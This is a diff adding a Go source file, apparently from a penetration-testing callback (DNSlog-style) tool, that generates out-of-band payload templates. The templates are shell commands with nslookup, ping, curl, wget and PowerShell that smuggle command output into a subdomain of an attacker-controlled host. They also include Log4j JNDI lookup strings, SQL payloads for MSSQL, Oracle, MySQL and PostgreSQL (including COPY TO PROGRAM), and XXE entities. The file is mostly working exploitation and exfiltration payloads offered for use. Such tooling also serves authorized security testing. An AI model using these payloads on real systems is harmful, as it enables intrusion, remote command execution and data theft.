@@ -0,0 +1,174 @@
+package payload
+
+import (
+	"bytes"
+	"crypto/rand"
+	"fmt"
+	"math/big"
+	"text/template"
+)
+
+// Technique 一类带外回连技术及其载荷模板
+// 模板中可使用 {{.Host}} 表示回连域名，{{.Name}} 表示 <label>.<user>，{{.Exfil}} 表示外带表达式(可能为空)
+type Technique struct {
+	Name        string   `json:"name"`
+	Description string   `json:"description"`
+	Exfil       bool     `json:"exfil"` // 是否支持外带表达式
+	Templates   []string `json:"-"`
+}
+
+// Params 渲染载荷模板的参数
+type Params struct {
+	Host  string
+	Exfil string
+	// Name 回连域名去掉平台域名后的部分(<label>.<user>)，用于LDAP/RMI等无法携带Host的协议
+	Name string
+}
+
+// Techniques 支持的载荷技术
+var Techniques = []Technique{
+	{
+		Name:        "nslookup",
+		Description: "nslookup (Linux shell / Windows cmd)",
+		Exfil:       true,
+		Templates: []string{
+			`nslookup {{if .Exfil}}$({{.Exfil}}).{{end}}{{.Host}}`,
+			`{{if .Exfil}}for /f %i in ('{{.Exfil}}') do nslookup %i.{{.Host}}{{else}}nslookup {{.Host}}{{end}}`,
+		},
+	},
+	{
+		Name:        "ping",
+		Description: "ping (Linux shell / Windows cmd)",
+		Exfil:       true,
+		Templates: []string{
+			`ping -c 1 {{if .Exfil}}$({{.Exfil}}).{{end}}{{.Host}}`,
+			`{{if .Exfil}}for /f %i in ('{{.Exfil}}') do ping -n 1 %i.{{.Host}}{{else}}ping -n 1 {{.Host}}{{end}}`,
+		},
+	},
+	{
+		Name:        "curl",
+		Description: "curl / wget",
+		Exfil:       true,
+		Templates: []string{
+			`curl http://{{if .Exfil}}$({{.Exfil}}).{{end}}{{.Host}}/`,
+			`wget -q -O- http://{{if .Exfil}}$({{.Exfil}}).{{end}}{{.Host}}/`,
+		},
+	},
+	{
+		Name:        "powershell",
+		Description: "PowerShell Resolve-DnsName",
+		Exfil:       true,
+		Templates: []string{
+			`{{if .Exfil}}Resolve-DnsName ("$({{.Exfil}})" + ".{{.Host}}"){{else}}Resolve-DnsName {{.Host}}{{end}}`,
+			`powershell -nop -c "{{if .Exfil}}Resolve-DnsName ((` + "`" + `$({{.Exfil}})) + '.{{.Host}}'){{else}}Resolve-DnsName {{.Host}}{{end}}"`,
+		},
+	},
+	{
+		Name:        "jndi",
+		Description: "Java JNDI lookup strings (Log4j etc.)",
+		Exfil:       true,
+		Templates: []string{
+			`${jndi:dns://{{if .Exfil}}${ {{- .Exfil -}} }.{{end}}{{.Host}}}`,
+			`${jndi:ldap://{{if .Exfil}}${ {{- .Exfil -}} }.{{end}}{{.Host}}:1389/{{.Name}}}`,
+			`${jndi:rmi://{{if .Exfil}}${ {{- .Exfil -}} }.{{end}}{{.Host}}:1099/{{.Name}}}`,
+		},
+	},
+	{
+		Name:        "mssql",
+		Description: "MSSQL xp_dirtree / xp_fileexist UNC path",
+		Exfil:       true,
+		Templates: []string{
+			`{{if .Exfil}}DECLARE @q VARCHAR(1024);SET @q='\\'+({{.Exfil}})+'.{{.Host}}\a';EXEC master..xp_dirtree @q;{{else}}EXEC master..xp_dirtree '\\{{.Host}}\a';{{end}}`,
+			`{{if .Exfil}}DECLARE @q VARCHAR(1024);SET @q='\\'+({{.Exfil}})+'.{{.Host}}\a';EXEC master..xp_fileexist @q;{{else}}EXEC master..xp_fileexist '\\{{.Host}}\a';{{end}}`,
+		},
+	},
+	{
+		Name:        "oracle",
+		Description: "Oracle UTL_INADDR / UTL_HTTP",
+		Exfil:       true,
+		Templates: []string{
+			`SELECT UTL_INADDR.GET_HOST_ADDRESS({{if .Exfil}}({{.Exfil}})||'.{{.Host}}'{{else}}'{{.Host}}'{{end}}) FROM dual`,
+			`SELECT UTL_HTTP.REQUEST('http://'||{{if .Exfil}}({{.Exfil}})||'.{{.Host}}/'{{else}}'{{.Host}}/'{{end}}) FROM dual`,
+		},
+	},
+	{
+		Name:        "mysql",
+		Description: "MySQL LOAD_FILE UNC path (Windows server)",
+		Exfil:       true,
+		Templates: []string{
+			`SELECT LOAD_FILE({{if .Exfil}}CONCAT('\\\\',({{.Exfil}}),'.{{.Host}}\\a'){{else}}'\\\\{{.Host}}\\a'{{end}})`,
+		},
+	},
+	{
+		Name:        "postgresql",
+		Description: "PostgreSQL COPY TO PROGRAM",
+		Exfil:       true,
+		Templates: []string{
+			`COPY (SELECT '') TO PROGRAM 'nslookup {{if .Exfil}}$({{.Exfil}}).{{end}}{{.Host}}'`,
+		},
+	},
+	{
+		Name:        "xxe",
+		Description: "XXE external entity / parameter entity",
+		Templates: []string{
+			`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://{{.Host}}/">]><r>&x;</r>`,
+			`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://{{.Host}}/x.dtd">%x;]><r/>`,
+		},
+	},
+}
+
+// Find 按名称查找载荷技术
+func Find(name string) (Technique, bool) {
+	for _, t := range Techniques {
+		if t.Name == name {
+			return t, true
+		}
+	}
+	return Technique{}, false
+}
+
+// Render 渲染该技术的全部载荷
+func (t Technique) Render(params Params) ([]string, error) {
+	if !t.Exfil {
+		params.Exfil = ""
+	}
+
+	payloads := make([]string, 0, len(t.Templates))
+	seen := make(map[string]bool)
+	for _, text := range t.Templates {
+		tmpl, err := template.New(t.Name).Parse(text)
+		if err != nil {
+			return nil, fmt.Errorf("invalid template for %s: %v", t.Name, err)
+		}
+		var buf bytes.Buffer
+		if err := tmpl.Execute(&buf, params); err != nil {
+			return nil, err
+		}
+		// 不带外带表达式时部分模板的结果相同，只保留一份
+		if !seen[buf.String()] {
+			seen[buf.String()] = true
+			payloads = append(payloads, buf.String())
+		}
+	}
+	return payloads, nil
+}
+
+// labelChars 子域名标签字符集，DNS不区分大小写，因此只使用小写字母和数字
+const labelChars = "abcdefghijklmnopqrstuvwxyz0123456789"
+
+// NewLabel 生成随机子域名标签，首字符为字母
+func NewLabel(n int) (string, error) {
+	b := make([]byte, n)
+	for i := range b {
+		max := len(labelChars)
+		if i == 0 {
+			max = 26
+		}
+		v, err := rand.Int(rand.Reader, big.NewInt(int64(max)))
+		if err != nil {
+			return "", err
+		}
+		b[i] = labelChars[v.Int64()]
+	}
+	return string(b), nil
+}